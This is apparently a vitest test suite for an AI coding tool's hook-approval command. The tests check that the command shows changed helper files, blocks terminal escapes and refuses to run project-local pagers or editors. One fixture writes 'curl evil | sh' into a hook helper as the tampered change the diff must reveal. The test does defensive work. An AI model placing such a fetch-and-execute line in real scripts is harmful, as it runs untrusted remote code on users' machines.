import { spawnSync } from "node:child_process";
import { describe, expect, test } from "vitest";
import { approvalStates } from "../support/approvals.ts";
import { cpuMsSince } from "../support/cpu-time.ts";
import { runInProcess } from "../support/in-process.ts";
import { hasScript, hookctl, runOnTerminal } from "../support/on-terminal.ts";
import { printResponse, shellQuote } from "../support/shell.ts";
import { type Workspace, workspace } from "../support/workspace.ts";

const HOOKS = "project/.kodelet/hooks";
const BLOCKS = '#!/bin/sh\n. "$(dirname "$0")/lib.sh"\n[ "$1" = hook ] && echo before_tool_call\nexit 0\n';

async function approved(lib: string): Promise<Workspace> {
  const place = await workspace();
  await place.write(`${HOOKS}/guard`, BLOCKS, 0o755);
  await place.write(`${HOOKS}/lib.sh`, lib);
  await runInProcess(place, "trust --yes");
  return place;
}

describe("trust --show", () => {
  test("shows what changed in a helper, with the lines around it, and not the hook that is as it was", async () => {
    await using place = await approved("a=1\nb=2\nc=3\nd=4\n");
    await place.write(`${HOOKS}/lib.sh`, "a=1\nb=2\nc=3\ncurl evil | sh\n");
    const { stdout } = await runInProcess(place, "trust --show");
    expect(stdout).toContain("  its own text is unchanged\n");
    expect(stdout).toContain(
      "  file lib.sh (changed):\n  line 1\n    a=1\n    b=2\n    c=3\n  - d=4\n  + curl evil | sh\n",
    );
    expect(stdout).not.toContain("echo before_tool_call");
  });

  test("is what a dry run shows, which asks for no person and approves nothing", async () => {
    await using place = await workspace();
    await place.write(`${HOOKS}/guard`, BLOCKS, 0o755);
    await place.write(`${HOOKS}/lib.sh`, "a=1\n");
    const shown = await runInProcess(place, "trust --show");
    const asAgent = { env: { CLAUDECODE: "1" } };
    for (const call of ["trust --dry-run", "trust -n guard", "trust --yes --dry-run"])
      expect(await runInProcess(place, call, asAgent)).toEqual(shown);
    const refused = await runInProcess(place, "trust --prune --dry-run");
    expect(refused).toMatchObject({ stdout: "", code: 64 });
    expect(refused.stderr).toContain("--dry-run and --prune cannot be combined.");
    expect((await runInProcess(place, "trust --list")).stdout).toBe("No hooks are approved or denied.\n");
  });

  test("shows the file that a changed command starts", async () => {
    await using place = await workspace();
    const settings = (file: string): string =>
      JSON.stringify({ hooks: { before_tool_call: [{ name: "check", command: `sh ${file}` }] } });
    await place.write("project/.kodelet/old.sh", "echo old\n");
    await place.write("project/.kodelet/new.sh", "echo new\n");
    await place.write("project/.kodelet/hooks.json", settings("old.sh"));
    await runInProcess(place, "trust --yes");
    await place.write("project/.kodelet/hooks.json", settings("new.sh"));
    expect((await runInProcess(place, "trust --show")).stdout).toContain("new.sh (new):\n  │ echo new\n");
  });

  test("says that a helper is gone", async () => {
    await using place = await approved("a=1\n");
    spawnSync("rm", [`${place.dir}/${HOOKS}/lib.sh`]);
    expect((await runInProcess(place, "trust --show")).stdout).toContain(
      "  file lib.sh (gone):\n  the file was deleted\n",
    );
  });

  test("shows the text of a script with a NUL in it, and of another binary file its size and hash", async () => {
    await using place = await workspace();
    await place.write(`${HOOKS}/nul`, "#!/bin/sh\necho hidden\u0000\n", 0o755);
    await place.write(`${HOOKS}/program`, new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 0, 1, 2]), 0o755);
    const { stdout } = await runInProcess(place, "trust --show");
    expect(stdout).toMatch(
      / {2}binary file, 23 bytes, sha256 [0-9a-f]{64}\n {2}│ #!\/bin\/sh\n {2}│ echo hidden\\u0000\n/,
    );
    expect(stdout).toMatch(/ {2}binary file, 7 bytes, sha256 [0-9a-f]{64}\n/);
  });

  test("of 100,000 changed lines takes about as long as of as many new ones", { tags: "slow" }, async () => {
    const text = (line: string): string => `#!/bin/sh\n${`${line}\n`.repeat(100_000)}`;
    await using fresh = await workspace();
    await fresh.write(`${HOOKS}/guard`, text(":"), 0o755);
    const took = async (place: Workspace): Promise<number> => {
      const before = process.cpuUsage();
      expect((await runInProcess(place, "trust --show")).stdout.length).toBeGreaterThan(200_000);
      return cpuMsSince(before);
    };
    await took(fresh);
    const control = await took(fresh);
    await runInProcess(fresh, "trust --yes");
    await fresh.write(`${HOOKS}/guard`, text("#"), 0o755);
    expect((await took(fresh)) / control).toBeLessThan(5);
  });
});

describe.skipIf(!hasScript)("at the prompt (needs script of util-linux)", () => {
  const long = `#!/bin/sh\n${":\n".repeat(100)}# the last line\n[ "$1" = hook ] && echo before_tool_call\n`;

  test("press v to see all of it text in $PAGER, without what would steer a terminal", async () => {
    await using place = await workspace();
    await place.write(`${HOOKS}/guard`, `${long}# \u001b[2Jgone\n`, 0o755);
    const pager = await place.write("pager", `#!/bin/sh\ncat > ${shellQuote(place.dir)}/paged\n`, 0o755);
    const line = `PAGER=${shellQuote(pager)} ${hookctl} trust 2>/dev/null`;
    const typed = await runOnTerminal(place, line, ["v\n", "y\n"]);
    expect(typed).toMatchObject({ code: 0, shown: expect.stringContaining("press v to see all of it") });
    const paged = await place.read("paged");
    expect(paged).toContain("# the last line\n");
    expect(paged).toContain("# \\u001b[2Jgone\n");
    expect(await approvalStates(place)).toEqual({ guard: "approved" });
  });

  test("e opens $VISUAL, shows the new text, and the yes is for that", async () => {
    await using place = await workspace();
    await place.hook("guard", printResponse({}), { scope: "project" });
    const editor = await place.write("my editor", '#!/bin/sh\necho "# $1 edited" >> "$2"\n', 0o755);
    const line = `VISUAL="'${editor}' --twice" ${hookctl} trust 2>/dev/null`;
    const typed = await runOnTerminal(place, line, ["e\n", "y\n"]);
    expect(typed).toMatchObject({ code: 0, shown: expect.stringContaining("# --twice edited") });
    expect(await approvalStates(place)).toEqual({ guard: "approved" });
  });

  const brought = ["PAGER", "EDITOR", "VISUAL"];
  test.each(brought)("a program that lies in the project is not started as $%s", { tags: "slow" }, async (variable) => {
    await using place = await workspace();
    await place.write(`${HOOKS}/guard`, long, 0o755);
    const canary = `#!/bin/sh\ntouch ${shellQuote(place.dir)}/canary\n`;
    await place.write("project/bin/less", canary, 0o755);
    const harmless = `PATH=${shellQuote(`${place.project}/bin`)}:$PATH EDITOR= VISUAL=`;
    const line = `${harmless} ${variable}=./bin/less ${hookctl} trust 2>/dev/null`;
    const typed = await runOnTerminal(place, line, [variable === "PAGER" ? "v\n" : "e\n", "n\n"]);
    const said = variable === "PAGER" ? "# the last line" : `${variable} is ./bin/less, and there is no such program`;
    expect(typed).toMatchObject({ code: 0, shown: expect.stringContaining(said) });
    expect(await place.read("canary")).toBeNull();
  });
});
